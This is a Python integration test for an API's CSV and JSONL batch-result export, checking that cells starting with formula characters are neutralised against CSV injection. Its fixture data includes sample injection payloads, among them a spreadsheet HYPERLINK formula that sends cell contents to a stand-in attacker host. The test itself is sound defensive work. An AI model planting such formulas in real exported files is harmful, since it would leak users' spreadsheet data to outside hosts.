"""CSV results are safe to open in a spreadsheet (SPEC §18, OWASP "CSV injection"): a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` so that it
is shown as text, never evaluated as a formula; JSONL keeps every value as stored.

The answers are written by playing the worker by hand (the simulated provider's answers never
start with a formula character), in a queue namespace of the test's own so that the session's
worker processes never take the queries.
"""

from __future__ import annotations

import csv
import io
import time
import uuid
from collections.abc import Iterator
from typing import Any

import orjson
import pytest
import redis
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from sqlmodel import col

from api.main import create_app
from shared.models import Query
from shared.settings import Settings
from tests.conftest import new_key
from tests.leases import claim_query, record_outcome

pytestmark = pytest.mark.integration

# custom_id -> the answer stored for it (None: the query failed with ERROR).
CASES: dict[str, str | None] = {
    "=1+1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd": "+SUM(A1:A9)",
    "-2": "-2+3",
    "@SUM(1)": "@SUM(A1)",
    "\tlead-tab": "\t=1+1",
    "\rlead-cr": "\r=1+1",
    "plain": "A plain answer; = inside is harmless.",
    "fails": None,
}
ERROR = {"type": "server", "message": "-provider said =no"}


@pytest.fixture
def api(settings: Settings, rclient: redis.Redis, sessions: sessionmaker[Session]) -> Iterator[TestClient]:
    own = settings.model_copy(
        update={"queue_namespace": f"{settings.queue_namespace}-csv-{uuid.uuid4().hex[:8]}"}
    )
    key, _ = new_key(sessions)
    with TestClient(create_app(own), headers={"Authorization": f"Bearer {key}"}) as client:
        yield client
    stale = list(rclient.scan_iter(f"{own.queue_namespace}:*", count=1000))
    if stale:
        rclient.delete(*stale)


def answer_every_query(sessions: sessionmaker[Session], batch_id: str) -> None:
    now = int(time.time())
    with sessions.begin() as s:
        rows = s.execute(
            select(col(Query.id), col(Query.custom_id)).where(col(Query.batch_id) == batch_id)
        ).all()
    for query_id, custom_id in rows:
        with sessions.begin() as s:
            claimed = claim_query(s, query_id, "worker-csv", 300, now)
            assert claimed is not None
            answer = CASES[custom_id]
            assert record_outcome(
                s,
                claimed,
                "worker-csv",
                status="succeeded" if answer is not None else "failed",
                result={"answer": answer, "synthesis": "chairman"} if answer is not None else None,
                error=None if answer is not None else ERROR,
                routing=None,
                calls=[],
                latency_ms=1,
                now=now,
            )


def test_csv_cells_that_could_be_formulas_are_neutralised_and_jsonl_is_unchanged(
    api: TestClient, sessions: sessionmaker[Session]
) -> None:
    created = api.post(
        "/v1/batches", json={"queries": [{"custom_id": c, "prompt": f"question {c!r}"} for c in CASES]}
    )
    assert created.status_code == 202, created.text
    batch_id = created.json()["id"]
    answer_every_query(sessions, batch_id)

    response = api.get(f"/v1/batches/{batch_id}/results", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = {row["query_id"]: row for row in csv.DictReader(io.StringIO(response.text, newline=""))}
    lines = api.get(f"/v1/batches/{batch_id}/results").text.splitlines()
    records = {r["query_id"]: r for r in map(orjson.loads, lines)}
    assert rows.keys() == records.keys() and len(rows) == len(CASES)

    for query_id, record in records.items():
        row, custom_id = rows[query_id], record["custom_id"]
        # JSONL: exactly what was stored.
        assert record["answer"] == CASES[custom_id]
        # CSV: a leading quote wherever the first character could start a formula, nothing else changed.
        risky = custom_id[0] in "=+-@\t\r"
        assert row["custom_id"] == ("'" + custom_id if risky else custom_id)
        answer = CASES[custom_id]
        if answer is None:
            assert record["error"] == ERROR
            assert (row["answer"], row["error_type"]) == ("", "server")
            assert row["error_message"] == "'" + ERROR["message"]
        else:
            assert row["answer"] == ("'" + answer if answer[0] in "=+-@\t\r" else answer)
            assert row["error_message"] == ""
        # Structured and numeric cells are left as they are.
        assert row["members"] == "[]" and row["input_tokens"] == "0" and row["latency_ms"] == "1"
        assert row["status"] == record["status"]


def test_csv_neutralises_every_first_character_owasp_lists(api: TestClient, sessions: Any) -> None:
    created = api.post("/v1/batches", json={"queries": [{"custom_id": c, "prompt": "q"} for c in CASES]})
    batch_id = created.json()["id"]
    answer_every_query(sessions, batch_id)
    text = api.get(f"/v1/batches/{batch_id}/results", params={"format": "csv"}).text
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
